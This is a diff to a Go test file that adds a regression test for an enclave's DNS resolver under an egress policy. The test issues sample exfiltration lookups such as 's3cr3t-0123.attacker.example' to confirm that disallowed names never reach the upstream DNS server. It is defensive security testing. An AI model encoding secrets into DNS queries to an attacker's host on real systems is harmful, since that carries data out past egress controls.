@@ -6,7 +6,9 @@ import (
 	"fmt"
 	"net"
 	"net/netip"
+	"slices"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -225,10 +227,12 @@ func egressListenPacket(t *testing.T, listen func(network, address string) (net.
 }
 
 // egressEnclave starts an enclave attached to sock with an egress policy
-// of rules and waits until it is ready.
+// of rules and waits until it is ready. usReady's probe, a lookup of
+// gateway.quench.internal, is allowed by one more rule (for UDP to port 53
+// only): Resolver asks about no name the policy does not allow.
 func egressEnclave(t *testing.T, sock string, rules []string) *enclave.Enclave {
 	t.Helper()
-	p, err := policy.Parse(rules)
+	p, err := policy.Parse(append(slices.Clip(rules), "gateway.quench.internal:53/udp"))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -259,5 +263,80 @@ func dialExpect(t *testing.T, e *enclave.Enclave, network, addr string, allowed 
 		t.Fatalf("Dial(%s) reached %v: %s", addr, remote, why)
 	case !errors.Is(err, enclave.ErrEgressRefused):
 		t.Fatalf("Dial(%s) = %v, want ErrEgressRefused", addr, err)
+	}
+}
+
+// recordingPC is a PacketConn that records the question names of the DNS
+// queries read from it.
+type recordingPC struct {
+	net.PacketConn
+	mu    sync.Mutex
+	names []string
+}
+
+func (r *recordingPC) ReadFrom(b []byte) (int, net.Addr, error) {
+	n, a, err := r.PacketConn.ReadFrom(b)
+	var m dnsmessage.Message
+	if err == nil && m.Unpack(b[:n]) == nil {
+		r.mu.Lock()
+		for _, q := range m.Questions {
+			r.names = append(r.names, q.Name.String())
+		}
+		r.mu.Unlock()
+	}
+	return n, a, err
+}
+
+func (r *recordingPC) seen() []string {
+	r.mu.Lock()
+	defer r.mu.Unlock()
+	return slices.Clone(r.names)
+}
+
+// TestUserspaceEgressResolver: with a policy allowing one name, the
+// enclave's Resolver still asked the host's DNS about any name, and an
+// honest host without a policy of its own forwarded it to the upstream
+// server: a lookup of "<secret>.attacker.example" carried data out. Now
+// only names the policy allows are asked about; the others are answered
+// "no such host" in the enclave.
+func TestUserspaceEgressResolver(t *testing.T) {
+	pc, err := net.ListenPacket("udp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	rec := &recordingPC{PacketConn: pc}
+	done := make(chan struct{})
+	go func() {
+		defer close(done)
+		testutil.ServeDNSUnknown(rec, map[string]netip.Addr{"allowed.example.com.": netip.MustParseAddr("10.9.9.9")}, dnsmessage.RCodeSuccess)
+	}()
+	t.Cleanup(func() { _ = pc.Close(); <-done })
+	sock := usSocket(t)
+	startTestHost(t, sock, host.Config{DNSUpstream: []string{pc.LocalAddr().String()}})
+	e := egressEnclave(t, sock, []string{"allowed.example.com:443"})
+	r, err := e.Resolver()
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
+	defer cancel()
+	if addrs, err := r.LookupHost(ctx, "allowed.example.com"); err != nil || !slices.Contains(addrs, "10.9.9.9") {
+		t.Errorf("LookupHost(allowed.example.com) = %v, %v", addrs, err)
+	}
+	_, err = r.LookupHost(ctx, "s3cr3t-0123.attacker.example")
+	var dnsErr *net.DNSError
+	if !errors.As(err, &dnsErr) || !dnsErr.IsNotFound {
+		t.Errorf("LookupHost of a name the policy does not allow = %v, want not found", err)
+	}
+	if _, err := r.LookupTXT(ctx, "s3cr3t-4567.attacker.example"); err == nil {
+		t.Error("LookupTXT of a name the policy does not allow succeeded")
+	}
+	for _, n := range rec.seen() {
+		if strings.Contains(n, "attacker") {
+			t.Errorf("the upstream DNS server was asked about %q", n)
+		}
+	}
+	if !slices.Contains(rec.seen(), "allowed.example.com.") {
+		t.Errorf("the upstream DNS server saw %q, not the allowed name", rec.seen())
 	}
 }
